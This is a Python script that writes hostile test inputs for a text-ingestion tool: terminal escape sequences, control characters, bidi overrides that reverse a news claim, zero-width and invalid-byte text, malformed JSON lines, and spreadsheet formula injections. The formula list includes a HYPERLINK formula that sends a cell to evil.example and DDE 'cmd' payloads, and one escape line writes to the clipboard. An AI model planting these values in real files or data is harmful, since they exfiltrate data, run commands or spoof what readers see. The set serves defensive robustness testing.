#!/usr/bin/env python3
"""Writes the hostile inputs of this folder, byte for byte: `python3 make.py`."""
import os

HERE = os.path.dirname(os.path.abspath(__file__))
ESC = b"\x1b"
GOOD = '{"id":"%s","text":"Rebels shelled the town on Monday, police said.","title":"Shelling"}\n'


def write(name: str, data: bytes) -> None:
    with open(os.path.join(HERE, name), "wb") as file:
        file.write(data)


def line(name: str, attack: bytes) -> bytes:
    return name.encode() + b": police said " + attack + b" two were hurt.\n"


write("escapes.txt", b"".join([
    b"Gunmen attacked a base near Gao on Friday\n\n",
    line("csi colour", ESC + b"[38;5;201mSGR" + ESC + b"[0m"),
    line("csi clear and home", ESC + b"[2J" + ESC + b"[H"),
    line("csi alternate screen", ESC + b"[?1049h" + ESC + b"[?25l"),
    line("csi device query", ESC + b"[c" + ESC + b"[6n" + ESC + b"[?996n"),
    line("osc 0 title", ESC + b"]0;TITLE\x07"),
    line("osc 8 link", ESC + b"]8;;http://evil.example/" + ESC + b"\\LINK" + ESC + b"]8;;" + ESC + b"\\"),
    line("osc 52 clipboard", ESC + b"]52;c;SElKQUNLRUQ=\x07"),
    line("dcs", ESC + b"P$q\"p" + ESC + b"\\" + ESC + b"P+q544e" + ESC + b"\\"),
    line("apc, pm, sos", ESC + b"_APC" + ESC + b"\\" + ESC + b"^PM" + ESC + b"\\" + ESC + b"XSOS" + ESC + b"\\"),
    line("full reset", ESC + b"c"),
    line("unfinished osc", ESC + b"]0;no end"),
]))

write("controls.txt", b"".join([
    line("bell", b"\x07"), line("backspaces", b"forty\x08\x08\x08\x08\x08four"),
    line("lone carriage return", b"no one hurt\rsixty killed"),
    line("shift out and in", b"\x0eabc\x0f"), line("vertical tab, form feed", b"\x0b\x0c"),
    line("every other C0", bytes(b for b in range(1, 32) if b not in (9, 10, 13, 27))),
    line("delete", b"\x7f"),
    line("C1 CSI and OSC in UTF-8", b"\xc2\x9b31m\xc2\x9d0;TITLE\xc2\x9c"),
    line("every C1 in UTF-8", "".join(map(chr, range(0x80, 0xA0))).encode()),
    line("line and paragraph separators", "\u2028\u2029\u0085".encode()),
]))

write("bidi.txt", "".join([
    "The army\u202e detrommi dah slebeR \u202csaid the bridge was open.\n",
    "Embedding \u202a\u202b\u202c, override \u202dabc\u202c, isolates \u2066a\u2069 \u2067b\u2069 \u2068c\u2069, marks \u200e\u200f\u061c.\n",
    "Never closed: \u202e\u2067\u2067 police said 12 were killed.\n",
    "Honest right-to-left text: قال الجيش إن ثلاثة جنود قتلوا (3) في بغداد.\n",
]).encode())

write("zero-width.txt", (
    "Re\u200bbels sh\u2060elled G\u00adao\ufeff, pol\u200cice\u200d said.\n"
    + "Flood" + "\u200b" * 3000 + "end\n"
    + "Z" + "\u0301" * 500 + "algo\n"
    + "Tags" + "".join(chr(0xE0000 + ord(c)) for c in "hidden words") + ".\n"
    + "Variation" + "\ufe0f" * 200 + ".\n"
).encode())

write("invalid-utf8.txt", b"Police said \xff\xfe four died.\nOverlong \xc0\xaf, lone tail \x80, cut short \xe2\x82, "
      b"surrogate \xed\xa0\x80, too large \xf4\x90\x80\x80.\nRaw C1 \x9b31m.\nLatin-1 caf\xe9.\nEnds inside a letter \xd0")
write("binary.bin", b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 4 + b"\x00" * 512 + b"Police said two were hurt.\x00")
write("nul.txt", b"Police said\x00 two were hurt\x00.\nThe rest is text.\n")
write("empty.txt", b"")
write("blank.txt", b" \r\n\t\n\xc2\xa0\n")
write("bom.txt", b"\xef\xbb\xbfPolice said two people were hurt in Gao on Friday.\r\n")
write("utf16.txt", b"\xff\xfe" + "Police said two people were hurt in Gao.\n".encode("utf-16-le"))

write("broken.jsonl", b"".join([
    (GOOD % "good-1").encode(),
    b'{"id":"cut-short","text":"Police said\n',
    (GOOD % "good-2").encode(),
    b'{"id":"lone-surrogate","text":"Police said \\ud83d two were hurt."}\n',
    b'{"id":"no-text","title":"Nothing to read"}\n',
    b'{"id":"wrong-type","text":42}\n',
    b'["not", "an", "object"]\n',
    b"\n",
    b"null\n",
    b'{"id":"raw-control","text":"bell \x07 inside"}\n',
    b'{"id":"bad-utf8","text":"caf\xe9"}\n',
    b'{"id":"nul","text":"Police said \\u0000 two were hurt."}\n',
    b'{"id":"empty-text","text":""}\n',
    b'{"id":"twice","text":"first","text":"second"}\n',
    b'{"id":7,"text":"A number for an id."}\n',
    b'{"text":"No id at all."}\n',
    b'{"id":"deep","text":"deep","extra":' + b"[" * 2000 + b"]" * 2000 + b"}\n",
    (GOOD % "good-3").rstrip("\n").encode(),
]))

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1", "-1", "@SUM(1+1)*cmd|' /C calc'!A0",
            "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\uff1d1+1", "plain \"quoted\", with a comma", "two\nlines",
            "<b>&amp;</b><!-- -->]]>", "-12 C and falling"]
write("formulas.jsonl", "".join(
    '{"id":"formula-%d","text":"%s said two were hurt.","title":"%s","source":"%s"}\n' % (n, *[text] * 3)
    for n, raw in enumerate(FORMULAS, 1)
    for text in [raw.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace("\r", "\\r").replace("\t", "\\t")]
).encode())
